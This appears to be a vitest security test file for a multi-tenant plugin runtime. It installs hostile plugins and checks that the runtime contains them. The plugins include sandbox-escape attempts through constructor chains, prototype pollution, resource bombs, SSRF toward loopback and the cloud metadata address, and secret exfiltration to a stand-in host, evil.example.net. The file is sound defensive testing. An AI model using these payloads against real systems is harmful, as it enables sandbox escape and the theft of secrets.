import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { createTestApi } from '../app/test-api.ts';
import { loadConfig } from '../config/load-config.ts';
import { createTestPartner } from '../marketplace/test-partner.ts';
import { createPluginRuntime } from './plugin-runtime.ts';

// The hostile plugins of sdk/src/sandbox/hostile-plugins.test.ts again, this time each one signed,
// published, installed by a tenant and run through the real marketplace, runtime and process pool.
// Each case ends with the right error as data, and afterwards a well-behaved plugin of another
// tenant still answers; what the hostile installation did is visible through the tenant API.

const { db, newTenant, caller, secretsKey } = await createTestApi();
const acme = await newTenant('Acme'); // installs the hostile plugins
const globex = await newTenant('Globex'); // the innocent neighbour, with data worth stealing
const base = '/api/v1/plugins/installations';
const apiKey = 'sk_live_hostile_8c2e71';

const limits = {
  KREDO_PLUGIN_CPU_MS: '100',
  KREDO_PLUGIN_MEMORY_MB: '16',
  KREDO_PLUGIN_DEADLINE_MS: '1000',
  KREDO_PLUGIN_MAX_PAYLOAD_BYTES: '65536',
  KREDO_PLUGIN_STORAGE_MAX_KEYS: '20',
  KREDO_PLUGIN_STORAGE_MAX_BYTES: '4096',
  KREDO_PLUGIN_BREACHES_BEFORE_DISABLE: '3',
};
const config = loadConfig({ ...limits, KREDO_PLUGIN_WORKERS: '2' });
const runtime = createPluginRuntime({ orm: db.orm, config, secretsKey });

// A local fake of the allowed provider origin: echoes back what it received, secrets included.
const received: (string | undefined)[] = [];
const fake = http.createServer((request, response) => {
  let body = '';
  request.on('data', (chunk) => {
    body += chunk;
  });
  request.on('end', () => {
    if (request.url === '/redirect') {
      response.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
      return;
    }
    received.push(request.headers.authorization);
    response.setHeader('x-echo', String(request.headers.authorization));
    response.end(JSON.stringify({ url: request.url, authorization: request.headers.authorization, body }));
  });
});
await new Promise<void>((resolve) => fake.listen(0, '127.0.0.1', resolve));
const fakeOrigin = `http://127.0.0.1:${(fake.address() as AddressInfo).port}`;
// A second runtime that routes the manifest origin to the fake: that needs private networks allowed.
// And one with room for a Map bomb to take its process down rather than stop at the CPU limit.
const heavyRuntime = createPluginRuntime({
  orm: db.orm,
  config: loadConfig({
    ...limits,
    KREDO_PLUGIN_WORKERS: '1',
    KREDO_PLUGIN_CPU_MS: '5000',
    KREDO_PLUGIN_DEADLINE_MS: '8000',
    // The crash test may need several tries before a bomb takes the process down: never disable.
    KREDO_PLUGIN_BREACHES_BEFORE_DISABLE: '100',
  }),
  secretsKey,
});
const routedRuntime = createPluginRuntime({
  orm: db.orm,
  config: loadConfig({ ...limits, KREDO_PLUGIN_WORKERS: '1', KREDO_PLUGIN_ALLOW_PRIVATE_NETWORKS: 'true' }),
  secretsKey,
  originRoutes: { 'https://api.example.com': fakeOrigin },
});

// One worker with room for one installation's flood: the neighbour shares the process with it.
const fairRuntime = createPluginRuntime({
  orm: db.orm,
  config: loadConfig({ ...limits, KREDO_PLUGIN_WORKERS: '1', KREDO_PLUGIN_CPU_MS: '500' }),
  secretsKey,
});

afterAll(async () => {
  await Promise.all([runtime.close(), routedRuntime.close(), heavyRuntime.close(), fairRuntime.close()]);
  await new Promise((resolve) => fake.close(resolve));
});

const partner = await createTestPartner(caller, acme.tenantId, 'Hostile B.V.');

/**
 * Publishes a plugin whose hooks are `webhook:<name>` (webhook names are free, hook names are not)
 * with the given JavaScript bodies, and installs and enables it for `tenant`.
 */
async function plugin(
  tenant: typeof acme,
  id: string,
  hooks: Record<string, string>,
  options: { scopes?: string[]; secrets?: Record<string, string> } = {},
) {
  const names = Object.keys(hooks);
  const manifest = {
    id: `com.example.hostile.${id}`,
    name: id,
    capabilities: ['payLink'],
    webhooks: names.map((name) => ({ name })),
    scopes: options.scopes,
    http: { origins: ['https://api.example.com'] },
    config: [
      { key: 'region', type: 'string', label: 'Region' },
      { key: 'apiKey', type: 'string', label: 'API key', secret: true },
    ],
  };
  const bundle = `globalThis.__kredo = { hooks: {
    ${names.map((name) => `${JSON.stringify(`webhook:${name}`)}: ${hooks[name]}`).join(',\n')}
  } };`;
  const installationId = await partner.installFor(tenant, manifest, bundle, {
    config: { region: 'benelux' },
    secrets: options.secrets ?? { apiKey },
  });
  return {
    id: installationId,
    run: (hook: string, payload: unknown = {}, on = runtime) =>
      on.invoke(tenant.tenantId, installationId, `webhook:${hook}`, payload),
    state: async () => (await tenant.api('GET', `${base}/${installationId}`)).body,
  };
}

const neighbour = await plugin(globex, 'neighbour', {
  ping: `async (payload, ctx) => {
    await ctx.storage.set('last', payload.n);
    return { n: payload.n, stored: await ctx.storage.get('last'), region: ctx.config.region };
  }`,
});
const globexDebtor = await globex.api('POST', '/api/v1/debtors', {
  administrationId: globex.administrationId,
  type: 'b2b',
  number: 'G1',
  name: 'Globex Secret Customer',
  addresses: [{ type: 'billing', line1: 'Dam 1', city: 'Amsterdam', country: 'NL' }],
});
expect(globexDebtor.status).toBe(201);

async function neighbourAnswers(on = runtime) {
  const n = Math.floor(Math.random() * 1000);
  expect(await neighbour.run('ping', { n }, on)).toEqual({
    ok: true,
    value: { n, stored: n, region: 'benelux' },
  });
}

afterEach(() => neighbourAnswers());

/** The pids of this process's plugin-host workers. */
function workerPids(): number[] {
  const out = execFileSync('ps', ['-o', 'pid=,args=', '--ppid', String(process.pid)], { encoding: 'utf8' });
  return out
    .split('\n')
    .filter((line) => line.includes('pool-worker'))
    .map((line) => Number.parseInt(line.trim(), 10));
}

describe('hostile plugins through the marketplace and runtime', () => {
  it('an endless loop ends at cpu_limit; three in a row disable the installation', async () => {
    const loop = await plugin(acme, 'loop', { loop: '() => { for (;;) {} }', ok: "() => 'fine'" });
    for (let attempt = 1; attempt <= 3; attempt++) {
      expect(await loop.run('loop')).toMatchObject({ ok: false, error: { code: 'cpu_limit' } });
      if (attempt < 3) {
        expect(await loop.state()).toMatchObject({ enabled: true, breachCount: attempt });
        await neighbourAnswers();
      }
    }
    expect(await loop.state()).toMatchObject({
      enabled: false,
      breachCount: 3,
      lastError: { code: 'cpu_limit' },
      disabledReason: expect.stringContaining('3 consecutive limit breaches'),
    });
    expect(await loop.run('ok')).toMatchObject({ ok: false, error: { code: 'installation_disabled' } });
  });

  it('a memory bomb ends at memory_limit and its sandbox is loaded afresh', async () => {
    const bomb = await plugin(acme, 'bomb', {
      bomb: `() => { const hoard = []; for (;;) hoard.push(new Array(100000).fill(hoard.length)); }`,
      ok: "() => 'fine'",
    });
    // The heavy runtime's CPU limit is high enough that the heap, not the clock, ends the bomb.
    const result = await bomb.run('bomb', {}, heavyRuntime);
    expect(result).toMatchObject({ ok: false });
    expect(['memory_limit', 'worker_crashed']).toContain(result.ok ? undefined : result.error.code);
    expect(await bomb.state()).toMatchObject({ enabled: true, breachCount: 1 });
    expect(await bomb.run('ok', {}, heavyRuntime)).toEqual({ ok: true, value: 'fine' });
    expect(await bomb.state()).toMatchObject({ breachCount: 0 });
  });

  it('a Map bomb that takes its worker process down: the pool replaces the process', async () => {
    const bomb = await plugin(acme, 'mapbomb', {
      bomb: `() => { const m = new Map(); for (let i = 0; ; i++) m.set(i, { i, s: 'x'.repeat(64) }); }`,
      ok: "() => 'fine'",
    });
    expect(await bomb.run('ok', {}, heavyRuntime)).toEqual({ ok: true, value: 'fine' });
    const before = workerPids();
    const result = await bomb.run('bomb', {}, heavyRuntime);
    // Usually V8 aborts the process; now and then it stops the bomb inside its isolate instead.
    const code = result.ok ? undefined : result.error.code;
    expect(['worker_crashed', 'memory_limit']).toContain(code);
    expect(await bomb.state()).toMatchObject({ enabled: true, breachCount: 1, lastError: { code } });
    await neighbourAnswers(heavyRuntime);
    expect(await bomb.run('ok', {}, heavyRuntime)).toEqual({ ok: true, value: 'fine' });
    if (code === 'worker_crashed') {
      const after = workerPids();
      expect(after).toHaveLength(before.length);
      expect(after.filter((pid) => !before.includes(pid))).toHaveLength(1);
    }
  });

  it('deep recursion is a plugin error, not a breach', async () => {
    const recurse = await plugin(acme, 'recurse', {
      recurse: '() => { const down = (n) => down(n + 1) + 1; return down(0); }',
    });
    expect(await recurse.run('recurse')).toMatchObject({
      ok: false,
      error: { code: 'plugin_error', message: 'RangeError: Maximum call stack size exceeded' },
    });
    expect(await recurse.state()).toMatchObject({ breachCount: 0, lastError: { code: 'plugin_error' } });
  });

  it('a huge return value ends at result_too_large', async () => {
    const huge = await plugin(acme, 'huge', { huge: "() => 'x'.repeat(100 * 1024)" });
    expect(await huge.run('huge')).toMatchObject({ ok: false, error: { code: 'result_too_large' } });
    expect(await huge.state()).toMatchObject({ breachCount: 1, lastError: { code: 'result_too_large' } });
  });

  it('finds nothing of the host through process, require, globalThis or constructors', async () => {
    const climber = await plugin(acme, 'climber', {
      look: `() => ({
        process: typeof process,
        require: typeof require,
        globalProcess: typeof globalThis.process,
        functionThis: typeof Function('return this')().process,
        globals: Object.getOwnPropertyNames(globalThis).filter((name) => /bridge|settle|ivm|\\$/i.test(name)),
      })`,
      'global-ctor': "() => globalThis.constructor.constructor('return process')()",
      'payload-ctor': "(payload) => payload.constructor.constructor('return process')().pid",
      'ctx-ctor': "(payload, ctx) => ctx.log.constructor('return process')()",
      'storage-ctor': "(payload, ctx) => ctx.storage.get.constructor('return require')()('fs')",
      'async-ctor': "async () => (async () => {}).constructor('return process')()",
    });
    expect(await climber.run('look')).toEqual({
      ok: true,
      value: {
        process: 'undefined',
        require: 'undefined',
        globalProcess: 'undefined',
        functionThis: 'undefined',
        globals: [],
      },
    });
    for (const hook of ['global-ctor', 'payload-ctor', 'ctx-ctor', 'async-ctor']) {
      expect(await climber.run(hook, {}), hook).toMatchObject({
        ok: false,
        error: { code: 'plugin_error', message: 'ReferenceError: process is not defined' },
      });
    }
    expect(await climber.run('storage-ctor')).toMatchObject({
      ok: false,
      error: { code: 'plugin_error', message: 'ReferenceError: require is not defined' },
    });
    expect(await climber.state()).toMatchObject({ breachCount: 0, enabled: true });
  });

  it('tampering with prototypes of what the host passed stays inside the isolate', async () => {
    const tamperer = await plugin(acme, 'tamperer', {
      pollute: `async (payload, ctx) => {
        payload.__proto__.polluted = 'yes';
        ctx.config.__proto__.isAdmin = true;
        Object.prototype.toString = () => 'hacked';
        Array.prototype.push = () => 0;
        JSON.stringify = () => '"forged"';
        JSON.parse = () => ({ forged: true });
        Promise.prototype.then = function () { throw new Error('hijacked'); };
        Function.prototype.apply = () => 'hijacked';
        return { seenInside: ({}).polluted };
      }`,
      afterwards: `async (payload, ctx) => {
        await ctx.storage.set('n', payload.n);
        return { n: await ctx.storage.get('n'), admin: ({}).isAdmin ?? null };
      }`,
    });
    const payload = { invoice: 'INV-1' };
    const polluted = await tamperer.run('pollute', payload);
    // Either the hook's own tampering broke its answer (a plugin error) or it answered; never more.
    expect(polluted.ok ? polluted.value : polluted.error.code).toEqual(
      polluted.ok ? { seenInside: 'yes' } : 'plugin_error',
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(payload)).toBe(Object.prototype);
    expect(Object.prototype.toString.call([])).toBe('[object Array]');
    const after = await tamperer.run('afterwards', { n: 3 });
    // The same sandbox still sees its own pollution; a sandbox of the other worker starts clean.
    expect(after.ok ? after.value : after.error.code).toEqual(
      after.ok ? { n: 3, admin: expect.toBeOneOf([true, null]) } : 'plugin_error',
    );
    expect(await tamperer.state()).toMatchObject({ enabled: true, breachCount: 0 });
  });

  it('refuses undeclared origins, loopback and the cloud metadata address', async () => {
    expect(config.pluginAllowPrivateNetworks).toBe(false);
    const fetcher = await plugin(acme, 'fetcher', {
      fetch: `async (payload, ctx) => {
        try { await ctx.http.fetch({ url: payload.url }); return 'fetched'; }
        catch (error) { return error.code; }
      }`,
    });
    const refusals: [string, string][] = [
      ['https://evil.example.net/steal', 'http_origin_denied'],
      ['https://127.0.0.1/', 'http_origin_denied'],
      ['https://[::1]/', 'http_origin_denied'],
      ['https://localhost/', 'http_origin_denied'],
      ['https://169.254.169.254/latest/meta-data/', 'http_origin_denied'],
      ['http://169.254.169.254/latest/meta-data/', 'invalid_argument'],
      ['http://127.0.0.1/', 'invalid_argument'],
      ['https://user:pw@api.example.com/', 'invalid_argument'],
    ];
    for (const [url, code] of refusals) {
      expect(await fetcher.run('fetch', { url }), url).toEqual({ ok: true, value: code });
    }
    // A manifest cannot declare such an origin in the first place.
    const manifest = partner.manifest({
      id: 'com.example.hostile.metadata',
      capabilities: ['payLink'],
      http: { origins: ['https://169.254.169.254', 'https://localhost'] },
    });
    const refused = await partner.publish(manifest, 'globalThis.__kredo = { hooks: {} };');
    expect(refused.status).toBeGreaterThanOrEqual(400);
    expect(refused.status).toBeLessThan(500);
  });

  it("cannot read another tenant's data through ctx.core or storage", async () => {
    const thief = await plugin(
      acme,
      'thief',
      {
        steal: `async (payload, ctx) => {
          const outcome = async (read) => { try { return await read(); } catch (e) { return e.code; } };
          return {
            debtor: await outcome(() => ctx.core.getDebtor(payload.debtorId)),
            open: await outcome(() => ctx.core.listOpenInvoices(payload.debtorId)),
            stored: (await ctx.storage.get('last')) ?? null,
            keys: await ctx.storage.list(''),
          };
        }`,
      },
      { scopes: ['debtors:read', 'invoices:read'] },
    );
    expect(await thief.run('steal', { debtorId: globexDebtor.body.id })).toEqual({
      ok: true,
      value: { debtor: 'not_found', open: 'not_found', stored: null, keys: [] },
    });
  });

  it("never hands the plugin a secret's value", async () => {
    const leaker = await plugin(acme, 'leaker', {
      config: '(payload, ctx) => ({ config: ctx.config, secrets: typeof ctx.secrets })',
      echo: `async (payload, ctx) => ctx.http.fetch({
        url: 'https://api.example.com/echo?key={{secrets.apiKey}}',
        method: 'POST',
        headers: { authorization: 'Bearer {{secrets.apiKey}}', 'content-type': 'text/plain' },
        body: 'key={{secrets.apiKey}}',
      })`,
      redirect: "async (payload, ctx) => ctx.http.fetch({ url: 'https://api.example.com/redirect' })",
      exfiltrate: `async (payload, ctx) => {
        try { await ctx.http.fetch({ url: 'https://evil.example.net/', headers: { 'x-key': '{{secrets.apiKey}}' } }); }
        catch (error) { return error.code; }
      }`,
    });
    expect(await leaker.run('config')).toEqual({
      ok: true,
      value: { config: { region: 'benelux' }, secrets: 'undefined' },
    });
    // Through the routed runtime the allowed origin is the local fake, which echoes the secret back.
    const echoed = await leaker.run('echo', {}, routedRuntime);
    expect(echoed).toMatchObject({ ok: true, value: { status: 200 } });
    expect(JSON.stringify(echoed)).not.toContain(apiKey);
    const body = JSON.parse((echoed as { value: { body: string } }).value.body);
    // Filled in at the edge (header and body), never in the URL.
    expect(received.at(-1)).toBe(`Bearer ${apiKey}`);
    expect(body.url).toBe('/echo?key={{secrets.apiKey}}');
    expect(body.authorization).not.toContain('{{');
    expect(await leaker.run('redirect', {}, routedRuntime)).toMatchObject({
      ok: true,
      value: { status: 302, headers: { location: 'http://169.254.169.254/latest/meta-data/' } },
    });
    expect(await leaker.run('exfiltrate', {}, routedRuntime)).toEqual({
      ok: true,
      value: 'http_origin_denied',
    });
    expect(JSON.stringify(await leaker.state())).not.toContain(apiKey);
  });

  it('flooding storage ends at storage_quota', async () => {
    const flooder = await plugin(acme, 'flooder', {
      flood: `async (payload, ctx) => {
        for (let i = 0; i < 1000; i++) {
          try { await ctx.storage.set('k' + i, 'x'.repeat(50)); }
          catch (error) { return { code: error.code, at: i, kept: (await ctx.storage.list('')).length }; }
        }
        return 'unlimited';
      }`,
      big: `async (payload, ctx) => {
        try { await ctx.storage.set('big', 'y'.repeat(10000)); return 'stored'; }
        catch (error) { return error.code; }
      }`,
      uncaught: "async (payload, ctx) => { for (let i = 0; ; i++) await ctx.storage.set('u' + i, i); }",
    });
    const flooded = await flooder.run('flood');
    expect(flooded).toMatchObject({ ok: true, value: { code: 'storage_quota' } });
    expect((flooded as { value: { kept: number } }).value.kept).toBeLessThanOrEqual(20);
    expect(await flooder.run('big')).toEqual({ ok: true, value: 'storage_quota' });
    expect(await flooder.run('uncaught')).toMatchObject({ ok: false, error: { code: 'plugin_error' } });
    expect(await flooder.state()).toMatchObject({ enabled: true, breachCount: 0 });
  });

  it('odd thrown values become plain plugin errors', async () => {
    const thrower = await plugin(acme, 'thrower', {
      null: '() => { throw null; }',
      undefined: 'async () => { throw undefined; }',
      symbol: "() => { throw Symbol('boom'); }",
      getter: `() => { throw { get message() { throw new Error('gotcha'); }, get name() { throw new Error('gotcha'); } }; }`,
    });
    const cases: [string, string][] = [
      ['null', 'null'],
      ['undefined', 'undefined'],
      ['symbol', 'Symbol(boom)'],
      ['getter', 'a non-error object was thrown'],
    ];
    for (const [hook, message] of cases) {
      expect(await thrower.run(hook), hook).toEqual({
        ok: false,
        error: { code: 'plugin_error', message, retryable: false },
      });
    }
    expect(await thrower.state()).toMatchObject({ breachCount: 0, lastError: { code: 'plugin_error' } });
  });

  it('a promise that never settles ends at the deadline', async () => {
    const hang = await plugin(acme, 'hang', { hang: '() => new Promise(() => {})' });
    const started = Date.now();
    expect(await hang.run('hang')).toMatchObject({ ok: false, error: { code: 'timeout', retryable: true } });
    expect(Date.now() - started).toBeLessThan(3000);
    expect(await hang.state()).toMatchObject({ breachCount: 1, lastError: { code: 'timeout' } });
  });

  it('a thousand concurrent calls all answer, and the neighbour is served meanwhile', async () => {
    const echo = await plugin(acme, 'echo', { double: '(payload) => payload.n * 2' });
    const calls = Array.from({ length: 1000 }, (_, n) => echo.run('double', { n }));
    await neighbourAnswers();
    const results = await Promise.all(calls);
    results.forEach((result, n) => {
      expect(result).toEqual({ ok: true, value: n * 2 });
    });
    expect(await echo.state()).toMatchObject({ enabled: true, breachCount: 0 });
  });
});

describe('a crash charged only to the likely culprit', () => {
  it("a neighbour's call in flight when a bomb takes the worker down is not a breach", async () => {
    const patient = await plugin(globex, 'patient', {
      slow: `async (payload, ctx) => {
        for (let i = 0; i < payload.n; i++) await ctx.storage.get('x');
        return 'done';
      }`,
    });
    const bomber = await plugin(acme, 'bomber', {
      bomb: `() => { const m = new Map(); for (let i = 0; ; i++) m.set(i, { i, s: 'x'.repeat(64) }); }`,
    });
    // The heavy runtime has one worker: both calls run in the same process. V8 sometimes stops a
    // Map bomb inside its isolate (memory_limit, no crash); try again until it takes the process down.
    let slow: Awaited<ReturnType<typeof patient.run>> = { ok: true, value: 'done' };
    let bombed: Awaited<ReturnType<typeof bomber.run>> | undefined;
    for (let attempt = 0; attempt < 10 && slow.ok; attempt++) {
      const inFlight = patient.run('slow', { n: 400 }, heavyRuntime);
      await new Promise((resolve) => setTimeout(resolve, 100));
      bombed = await bomber.run('bomb', {}, heavyRuntime);
      slow = await inFlight;
    }
    const lost = { ok: false, error: { code: 'worker_lost', retryable: true } };
    expect(slow).toMatchObject(lost);
    // The bomber answers worker_lost too, unless V8 reported its isolate's memory_limit before dying.
    expect(['worker_lost', 'memory_limit']).toContain(bombed?.ok === false ? bombed.error.code : undefined);
    // Two plugins were in flight: nobody can tell whose fault it was, so the crash charges nobody.
    expect(await patient.state()).toMatchObject({
      enabled: true,
      breachCount: 0,
      lastError: { code: 'worker_lost' },
    });
    const { breachCount } = await bomber.state();
    // Alone in the process, the bomber is the culprit (or V8 stopped it inside its isolate).
    const alone = await bomber.run('bomb', {}, heavyRuntime);
    const code = alone.ok ? undefined : alone.error.code;
    expect(['worker_crashed', 'memory_limit']).toContain(code);
    expect(await bomber.state()).toMatchObject({ breachCount: breachCount + 1, lastError: { code } });
    expect(await patient.run('slow', { n: 3 }, heavyRuntime)).toEqual({ ok: true, value: 'done' });
    expect(await patient.state()).toMatchObject({ breachCount: 0 });
  });
});

/** Resident memory of a process, in MiB, from /proc (Linux, where Kredo runs). */
function rssMb(pid: number): number {
  const pages = Number(readFileSync(`/proc/${pid}/statm`, 'utf8').split(' ')[1]);
  return (pages * 4096) / 1048576;
}

describe('what the second hostile review got through (issue 7)', () => {
  it('memory the isolate would not count is refused, and the worker stays as large as it was', async () => {
    const hoarder = await plugin(acme, 'hoarder', {
      resizable: `() => {
        globalThis.kept ??= [];
        const buffer = new ArrayBuffer(0, { maxByteLength: 64 << 20 });
        buffer.resize(32 << 20);
        globalThis.kept.push(buffer);
      }`,
      formatters: `() => {
        globalThis.formatters ??= [];
        for (let i = 0; i < 100; i++) globalThis.formatters.push(new Intl.DateTimeFormat('nl', { dateStyle: 'long' }));
        return globalThis.formatters.length;
      }`,
    });
    expect(await hoarder.run('formatters')).toEqual({ ok: true, value: 100 });
    const pids = runtime.stats().map((worker) => worker.pid as number);
    const before = pids.map(rssMb);
    for (let call = 0; call < 40; call++) {
      expect(await hoarder.run('resizable')).toMatchObject({
        ok: false,
        error: {
          code: 'plugin_error',
          message: 'RangeError: resizable ArrayBuffers are not available to plugins',
        },
      });
      expect(await hoarder.run('formatters')).toMatchObject({ ok: true });
    }
    const grown = pids.map((pid, n) => rssMb(pid) - (before[n] as number));
    expect(Math.max(...grown)).toBeLessThan(64);
    expect(await hoarder.state()).toMatchObject({ enabled: true, breachCount: 0 });
  });

  it("a tenant flooding its plugin neither times out another tenant's plugin nor gets it disabled", async () => {
    const streams = await plugin(acme, 'streams', {
      work: `async (payload, ctx) => {
        const until = Date.now() + 20;
        while (Date.now() < until) {}
        await ctx.storage.get('x');
        return 'done';
      }`,
    });
    let flooding = true;
    const stream = async () => {
      const codes: string[] = [];
      while (flooding) {
        const result = await streams.run('work', {}, fairRuntime);
        codes.push(result.ok ? 'ok' : result.error.code);
      }
      return codes;
    };
    const flood = Array.from({ length: 40 }, stream);
    for (let call = 0; call < 10; call++) await neighbourAnswers(fairRuntime);
    flooding = false;
    const codes = new Set((await Promise.all(flood)).flat());
    expect([...codes].filter((code) => code !== 'ok' && code !== 'overloaded')).toEqual([]);
    expect(await neighbour.state()).toMatchObject({ enabled: true, breachCount: 0 });
    expect(await streams.state()).toMatchObject({ enabled: true, breachCount: 0 });
  });

  it('nothing of an installation outlives it: a reinstall or a settings change starts a fresh sandbox', async () => {
    const hooks = {
      remember: `(payload, ctx) => {
        const before = globalThis.remembered ?? null;
        globalThis.remembered = ctx.config.region;
        return before;
      }`,
    };
    const first = await plugin(acme, 'rememberer', hooks);
    expect(await first.run('remember')).toEqual({ ok: true, value: null });
    expect(await first.run('remember')).toEqual({ ok: true, value: 'benelux' });
    const changed = await acme.api('PATCH', `${base}/${first.id}`, { config: { region: 'dach' } });
    expect(changed.status).toBe(200);
    expect(await first.run('remember')).toEqual({ ok: true, value: null });
    expect((await acme.api('DELETE', `${base}/${first.id}`)).status).toBe(204);
    const again = await acme.api('POST', base, {
      pluginId: 'com.example.hostile.rememberer',
      version: '1.0.0',
      grantedScopes: [],
      config: { region: 'nordics' },
      secrets: { apiKey },
    });
    expect(again.status).toBe(201);
    expect((await acme.api('PATCH', `${base}/${again.body.id}`, { enabled: true })).status).toBe(200);
    expect(await runtime.invoke(acme.tenantId, again.body.id, 'webhook:remember', {})).toEqual({
      ok: true,
      value: null,
    });
  });

  it('a custom Error.prepareStackTrace learns nothing of the tenant from file names', async () => {
    const tracer = await plugin(acme, 'tracer', {
      trace: `() => {
        Error.prepareStackTrace = (_error, frames) => frames.map((frame) => String(frame.getFileName()));
        return new Error('where am I').stack;
      }`,
    });
    const result = await tracer.run('trace');
    expect(result).toMatchObject({ ok: true });
    const names = (result as { value: string[] }).value;
    expect(names.length).toBeGreaterThan(0);
    for (const name of names) {
      expect(name).not.toContain(acme.tenantId);
      expect(name).not.toContain(tracer.id);
    }
  });
});
